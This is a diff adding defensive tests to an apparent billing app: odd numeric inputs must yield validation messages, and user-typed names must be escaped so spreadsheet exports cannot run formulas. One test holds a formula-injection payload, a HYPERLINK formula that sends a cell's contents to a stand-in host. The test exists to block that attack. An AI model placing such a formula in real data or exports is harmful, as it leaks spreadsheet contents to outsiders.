@@ -122,6 +122,46 @@ def test_billing_details_explain_every_mistake_and_keep_what_was_typed(claire):
     assert not BillingDetails.objects.exists()
 
 
+@pytest.mark.parametrize(
+    ("field", "value", "reason"),
+    [
+        ("vat_rate", "NaN", "Give the VAT rate you charge"),
+        ("vat_rate", "Infinity", "Give the VAT rate you charge"),
+        ("siret", "7328293200007²", "A SIRET has 14 digits."),
+        ("siret", "７３２８２９３２００００７４", "A SIRET has 14 digits."),  # full-width digits
+        ("adeli", "69951234５", "An ADELI number has 9 digits."),
+    ],
+)
+def test_odd_numbers_are_explained_never_a_server_error(claire, field, value, reason):
+    values = {
+        "legal_name": "Claire Martin",
+        "profession": "Sophrologue",
+        "address": "Lyon",
+        "siret": SIRET,
+        "adeli": "",
+        "rpps": "",
+        "vat_regime": "rate",
+        "vat_rate": "20",
+        field: value,
+    }
+    response = client_for(claire.user).post("/en/pro/billing-details/", values)
+    assert response.status_code == 400 and reason in response.content.decode()
+    assert not BillingDetails.objects.exists()
+
+
+def test_names_typed_by_people_never_run_as_formulas_in_the_exports():
+    from khepri.spreadsheet import text_cell
+
+    assert text_cell('=HYPERLINK("http://x.example/?"&A1,"Zoé")').startswith("'=")
+    assert [text_cell(v) for v in ("+33 6", "-1", "@SUM(A1)", "Zoé Durand", "")] == [
+        "'+33 6",
+        "'-1",
+        "'@SUM(A1)",
+        "Zoé Durand",
+        "",
+    ]
+
+
 def test_saving_billing_details_issues_the_waiting_notes(claire, captured):
     client = client_for(claire.user)
     assert "Your fee notes need your billing details" in client.get("/en/pro/").content.decode()
